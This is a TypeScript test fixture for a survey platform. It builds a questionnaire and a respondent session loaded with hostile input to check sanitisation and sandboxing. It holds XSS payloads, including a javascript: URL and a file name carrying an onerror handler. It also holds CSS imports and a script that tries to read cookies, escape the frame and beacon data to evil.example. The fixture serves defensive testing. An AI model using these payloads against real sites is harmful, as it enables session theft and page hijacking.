import { attachKinds } from '@naire/domain/interactions'
import type { NaireRecord } from '@naire/domain/naires'
import { randomBytes } from 'node:crypto'
import { Client, type Json } from '../../api/client.ts'
import { inChinese, newSid, password, FieldworkSite } from '../../api/fieldwork.ts'
import { Respondent } from '../../api/respondent.ts'
import { hostileHtml } from '../../fixtures/hostile-html.ts'

export interface HostileField {
  readonly baseUrl: string
  readonly survey: string
  readonly subject: string
  readonly sessionSid: string
  /** As the browser keeps the sign-in of a manager. */
  readonly manager: Json
  readonly cleaned: readonly { readonly Target: string; readonly Removed: readonly string[] }[]
  /** Fields of the questionnaire as its author wrote them. */
  readonly hostile: object
  /** Each way of attacking as an option of its own. */
  readonly eachByItself: object
}

/** A questionnaire whose author attacks with every text, and a session whose respondent does. */
export async function makeHostileField(baseUrl: string, adminPassword: string): Promise<HostileField> {
  const anybody = new Client(baseUrl)
  const admin = await anybody.signIn('superadmin', adminPassword)
  const run = randomBytes(3).toString('hex')
  const place = await FieldworkSite.make({ admin, anybody }, `提防${inChinese(run)}社`)
  await place.person('ProjectManager', `wary_${run}`)
  const manager = await anybody.authenticate(`wary_${run}`, password)
  const given = naire()
  const { body, text } = await admin.post('/odata/Naires/SurveyExpert.Import()', {
    subjectSid: place.subjectSid,
    naire: given,
  })
  if (!body.value) throw new Error(text)
  await admin.post(`/odata/Naires('${given.Sid}')/SurveyExpert.Publish()`)
  const { body: record } = await admin.get(`/odata/Naires('${given.Sid}')?$expand=Questions`)
  const { Questions: _questions, ...settings } = given
  const hostile = {
    ...settings,
    Questions: (record.Questions as Json[]).map((question, at) => ({
      ...question,
      Data: JSON.stringify(given.Questions[at]?.Data),
    })),
  }
  return {
    baseUrl,
    manager,
    hostile,
    eachByItself: { ...hostile, Header: '', Footer: '', ExtScript: '', ...optionsOf(hostile.Questions) },
    cleaned: body.value.Cleaned,
    survey: `/survey/online/${place.orgSid}/${given.Sid}`,
    subject: `/subject/${place.orgSid}/${place.subjectSid}`,
    sessionSid: await answered(anybody, record),
  }
}

/** The first question alone. */
function optionsOf([first]: readonly Json[]): object {
  const content = JSON.parse(first?.['Data'] as string)
  content.Interactions[0].Entries = hostileHtml.map((Data, at) => ({ Sid: newSid(), Code: `${at}`, Data }))
  return { Questions: [{ ...first, Data: JSON.stringify({ ...content, Data: '哪一个？' }) }], QuestionCount: 1 }
}

// What stands in a placeholder is an expression: this author's does not compile.
const all = hostileHtml.filter((html) => !html.includes('{{')).join('')
const overlay = 'position: fixed; inset: 0; z-index: 99999; background: url(//evil.example/p.gif)'
const sheet = `@import url(//evil.example/a.css); body { ${overlay} } .n-survey__footer, nav, button { display: none; ${overlay} } & ~ * { display: none } } * { ${overlay} }`
const script = `
  const tries = [
    () => { parent.pwned = 1 }, () => { top.pwned = 1 }, () => { parent.document.body.innerHTML = '' }, () => { top.location = 'https://evil.example/top' },
    () => localStorage.setItem('a', 'b'), () => document.cookie, () => indexedDB.open('a'), () => open('https://evil.example/popup'), () => alert(1),
    () => fetch('https://evil.example/fetch').catch(() => {}), () => navigator.sendBeacon('https://evil.example/beacon'), () => { new Image().src = 'https://evil.example/image' },
    () => { const form = document.createElement('form'); form.action = 'https://evil.example/form'; document.body.append(form); form.submit() },
    () => { const frame = document.createElement('iframe'); frame.src = 'https://evil.example/frame'; document.body.append(frame) },
    () => new WebSocket('wss://evil.example/socket'), () => naire.height(1e9), () => parent.postMessage({ kind: 'height', height: -1 }, '*'),
  ]
  for (const attempt of tries) try { attempt() } catch {}
  naire.onPage(({ page, pages }) => {
    if (page === 99) location = 'https://evil.example/self'
    document.body.append('ran on page ' + page + ' of ' + pages)
  })`

function naire() {
  const option = (Code: string) => ({ Sid: newSid(), Code, Data: `选项${Code}${all}`, Image: 'javascript:pwned=1' })
  const interaction = {
    Sid: newSid(),
    Code: 'I1',
    Compulsory: true,
    Prepend: all,
    Append: all,
    CssText: sheet,
    Entries: ['1', '2'].map(option),
  }
  const essay = { Sid: newSid(), Code: 'I1', DataType: { Required: false, MaxLength: 500 } }
  const row = (Code: string) => ({
    Sid: newSid(),
    Code,
    Data: `行${Code}${all}`,
    AfterData: all,
    CssClass: 'n-overlay ant-modal-mask mine',
  })
  const matrix = { Sid: newSid(), Code: 'I1', Compulsory: false, Rows: [row('1')], Options: [row('a'), row('b')] }
  const question = (Code: string, Seq: number, Type: number, content: object) => ({
    Sid: newSid(),
    Code,
    Type,
    PageSid: page,
    PageSeq: 1,
    Seq,
    Data: { Data: `${Code}${all}`, Css: sheet, ...content },
  })
  const page = newSid()
  return {
    Sid: newSid(),
    Name: `问卷${all}`,
    QuestionCount: 4,
    PageCount: 1,
    ModifyTime: '2026-01-05T02:00:00.000Z',
    Header: all,
    Footer: all,
    Conclusion: all,
    Css: sheet,
    ExtScript: script,
    Questions: [
      question('A', 1, 0, { Interactions: [interaction] }),
      question('B', 2, 1, { Interactions: [matrix] }),
      question('C', 3, 5, { Interactions: [essay] }),
      question('D', 4, 6, { Interactions: [{ Sid: newSid(), Code: 'I1', Compulsory: false }] }),
    ],
  }
}

/** Text and file name are attacks too. */
async function answered(anybody: Client, record: NaireRecord): Promise<string> {
  const someone = new Respondent(anybody, record)
  await someone.commit({ A: '1' })
  const fileName = '<img src=x onerror=pwned=1>.txt'
  await someone.client.upload(
    `/UploadFiles/?objectSid=${someone.sid}&bizObjectType=202&naireSid=${record.Sid}&attachType=${attachKinds.File}`,
    { name: fileName, content: Buffer.from('x') },
  )
  const { status, text } = await someone.finish({ A: '1', C: hostileHtml.slice(0, 12).join('').slice(0, 480) })
  if (status >= 300) throw new Error(text)
  return someone.sid
}
